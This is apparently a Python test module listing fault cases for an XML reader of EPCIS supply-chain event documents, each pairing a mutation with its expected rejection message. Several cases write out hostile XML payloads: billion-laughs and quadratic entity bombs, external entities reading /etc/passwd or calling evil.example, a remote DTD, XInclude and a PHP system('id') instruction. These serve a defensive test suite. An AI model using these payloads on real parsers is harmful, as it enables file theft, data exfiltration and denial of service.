"""Faults in the tags of XML, and all that XML can do beside them."""

from collections.abc import Callable

from tests.faults.case import Fault, in_bytes, in_markup, swap

_EVENTS = "/EPCISDocument/EPCISBody/EventList/"
_ROOT = "<epcis:EPCISDocument"
_PICKERS = "<tea:pickers>14</tea:pickers>"
_NOTE = "Carton opened, 茶叶完好"


def faults() -> list[Fault]:
    return [*_texts(), *_entities()]


def _in_text(
    name: str,
    desc: str,
    story: str,
    change: Callable[[bytes], bytes],
    place: str,
    reason: str,
) -> Fault:
    return in_bytes(
        name,
        desc,
        story,
        change,
        place=place if place[0] in "/l" else f"{_EVENTS}{place}",
        reason=reason,
        media="xml",
    )


def _doctype(declared: str, old: str, new: str) -> Callable[[bytes], bytes]:
    """Return the change that declares a document type and uses it."""

    def change(data: bytes) -> bytes:
        return swap(old, new)(swap(_ROOT, f"{declared}\n{_ROOT}")(data))

    return change


def _texts() -> list[Fault]:
    return [
        _in_text(
            "xml-tag-mismatch", "an end tag in the wrong case",
            "making", swap(f"{_PICKERS}", "<tea:pickers>14</tea:Pickers>"),
            "ObjectEvent[1]/tea:pickers (line 30)",
            "not well-formed XML at column 22: mismatched tag; mend it there, or have it written again",
        ),
        _in_text(
            "xml-truncated", "a document that was cut off on its way",
            "watching", lambda data: data[:3000],
            "ObjectEvent[3]/quantityList/quantityElement[1]/epcClass (line 69)",
            "not well-formed XML at column 46: no element found; mend it there, or have it written again",
        ),
        _in_text(
            "xml-truncated-between-events", "a document that was cut off after its first event",
            "shipping", lambda data: data.partition(b"   <TransactionEvent>")[0],
            "/EPCISDocument/EPCISBody/EventList (line 32)",
            "not well-formed XML at column 1: no element found; mend it there, or have it written again",
        ),
        _in_text(
            "xml-lone-ampersand", "an ampersand that stands for itself",
            "shipping", swap(_NOTE, "Leaf & Son"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 21: not well-formed (invalid token); mend it there, or have it written again",
        ),
        _in_text(
            "xml-lone-less-than", "a less-than sign that stands for itself",
            "shipping", swap(_NOTE, "<2 kg"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 16: not well-formed (invalid token); mend it there, or have it written again",
        ),
        _in_text(
            "xml-attribute-twice", "an attribute twice in one tag",
            "making", swap('schemaVersion="2.0"', 'schemaVersion="2.0" schemaVersion="1.2"'),
            "line 2",
            "not well-formed XML at column 167: duplicate attribute; mend it there, or have it written again",
        ),
        _in_text(
            "xml-attribute-without-quotes", "an attribute without quotes",
            "making", swap('schemaVersion="2.0"', "schemaVersion=2.0"),
            "line 2",
            "not well-formed XML at column 161: not well-formed (invalid token); mend it there, or have it written again",
        ),
        _in_text(
            "xml-undefined-prefix", "an element whose prefix nobody defines",
            "making", swap(f"{_PICKERS}", "<coffee:pickers>14</coffee:pickers>"),
            "ObjectEvent[1] (line 30)",
            "not well-formed XML at column 5: unbound prefix; mend it there, or have it written again",
        ),
        _in_text(
            "xml-two-documents", "two documents one after another in one file",
            "watching", lambda data: data + data,
            "line 82",
            "not well-formed XML at column 1: junk after document element; mend it there, or have it written again",
        ),
        _in_text(
            "xml-text-after-the-end", "text after the end of the document",
            "making", lambda data: data + b"sent by TL-0009\n",
            "line 96",
            "not well-formed XML at column 1: junk after document element; mend it there, or have it written again",
        ),
        _in_text(
            "xml-space-before-the-declaration", "a line break before the XML declaration",
            "making", lambda data: b"\n" + data,
            "line 2",
            "not well-formed XML at column 1: XML or text declaration not at start of entity; mend it there, or have it written again",
        ),
        _in_text(
            "xml-declaration-alone", "a declaration, and no document",
            "making", lambda data: data.partition(b"\n")[0],
            "line 1",
            "not well-formed XML at column 39: no element found; mend it there, or have it written again",
        ),
        _in_text(
            "xml-html", "a page of HTML, as a proxy answers that wants a password",
            "making", lambda _: b"<!DOCTYPE html>\n<html><body><p>Log in<br></body></html>\n",
            "line 1",
            "a document type ('html') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-control-character", "a character that XML does not allow",
            "shipping", swap(_NOTE, "Carton \x07 opened"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 22: not well-formed (invalid token); mend it there, or have it written again",
        ),
        _in_text(
            "xml-control-character-reference", "the same character, referred to by its number",
            "shipping", swap(_NOTE, "Carton&#7;opened"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 21: reference to invalid character number; mend it there, or have it written again",
        ),
        _in_text(
            "xml-not-utf-8", "Latin-1 in a document that says it is UTF-8",
            "shipping", swap(_NOTE, b"Th\xe9 vert"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 17: not well-formed (invalid token); mend it there, or have it written again",
        ),
        _in_text(
            "xml-says-utf-16", "UTF-8 in a document that says it is UTF-16",
            "making", swap('encoding="UTF-8"', 'encoding="UTF-16"'),
            "line 1",
            "not well-formed XML at column 31: encoding specified in XML declaration is incorrect; mend it there, or have it written again",
        ),
        _in_text(
            "xml-says-latin-1", "a document that says it is Latin-1",
            "making", swap('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
            "line 1",
            "the encoding is 'ISO-8859-1': write UTF-8 or UTF-16",
        ),
        _in_text(
            "xml-says-utf-7", "a document that says it is UTF-7, in which tags can hide",
            "making", swap('encoding="UTF-8"', 'encoding="UTF-7"'),
            "line 1",
            "the encoding is 'UTF-7': write UTF-8 or UTF-16",
        ),
        _in_text(
            "xml-version-1.1", "XML 1.1, which readers differ about",
            "making", swap('<?xml version="1.0"', '<?xml version="1.1"'),
            "line 1",
            "this is XML 1.1: write XML 1.0",
        ),
        _in_text(
            "xml-instruction", "an instruction to a program, inside an event",
            "making", swap(f"{_PICKERS}", f"{_PICKERS}<?php system('id') ?>"),
            "ObjectEvent[1] (line 30)",
            "a processing instruction ('php') says nothing in a document of events: leave it out",
        ),
        _in_text(
            "xml-nests-20000-deep", "elements 20,000 deep, which would overflow a careless reader",
            "shipping", swap(_NOTE, "<a>" * 20_000 + "</a>" * 20_000),
            f"AggregationEvent[2]/tea:note{'/a' * 59} (line 92)",
            "this nests more than 64 deep: write it with fewer levels",
        ),
        _in_text(
            "xml-nests-65-deep", "elements one deeper than a reader takes",
            "making", swap(f"{_PICKERS}", f"<tea:x>{'<tea:x>' * 60}{'</tea:x>' * 60}</tea:x>"),
            f"ObjectEvent[1]/tea:x{'/tea:x' * 59} (line 30)",
            "this nests more than 64 deep: write it with fewer levels",
        ),
    ]  # fmt: skip


def _entities() -> list[Fault]:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    return [
        _in_text(
            "xml-doctype", "a document type, though nothing uses it",
            "making", _doctype("<!DOCTYPE EPCISDocument>", "", ""),
            "line 2",
            "a document type ('EPCISDocument') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-billion-laughs", "entities of entities, a thousand million of them",
            "shipping", _doctype(f'<!DOCTYPE lolz [<!ENTITY l0 "ha">{laughs}]>', _NOTE, "&l9;"),
            "line 2",
            "a document type ('lolz') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-quadratic-blowup", "one long entity, many times",
            "shipping", _doctype(f'<!DOCTYPE tea [<!ENTITY leaf "{"leaf " * 2000}">]>', _NOTE, "&leaf;" * 2000),
            "line 2",
            "a document type ('tea') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-entity-of-a-file", "an entity that would read a file of the reader's",
            "shipping", _doctype('<!DOCTYPE file [<!ENTITY file SYSTEM "file:///etc/passwd">]>', _NOTE, "&file;"),
            "line 2",
            "a document type ('file') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-entity-of-an-address", "an entity that would call an address",
            "watching", _doctype('<!DOCTYPE call [<!ENTITY call SYSTEM "https://evil.example/?here">]>', "urn:epc:id:giai:9506000.TL-0009</epc>", "&call;</epc>"),
            "line 2",
            "a document type ('call') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-doctype-elsewhere", "a document type to be fetched from an address",
            "making", _doctype('<!DOCTYPE epcis SYSTEM "https://evil.example/epcis.dtd">', "", ""),
            "line 2",
            "a document type ('epcis') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-parameter-entity", "a parameter entity, which would read a file while it is being declared",
            "making", _doctype('<!DOCTYPE more [<!ENTITY % more SYSTEM "file:///etc/hostname"> %more;]>', "", ""),
            "line 2",
            "a document type ('more') is not taken, for it can define entities: leave out <!DOCTYPE>",
        ),
        _in_text(
            "xml-undefined-entity", "an entity that nobody defines, as HTML has it",
            "shipping", swap(_NOTE, "Carton&nbsp;opened"),
            "AggregationEvent[2]/tea:note (line 92)",
            "not well-formed XML at column 21: undefined entity; mend it there, or have it written again",
        ),
        in_markup(
            "xml-include", "an element that would include another file",
            "shipping", swap(_NOTE, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'),
            "AggregationEvent[2]/tea:note/xi:include",
            "nothing is included: write it out here",
        ),
    ]  # fmt: skip
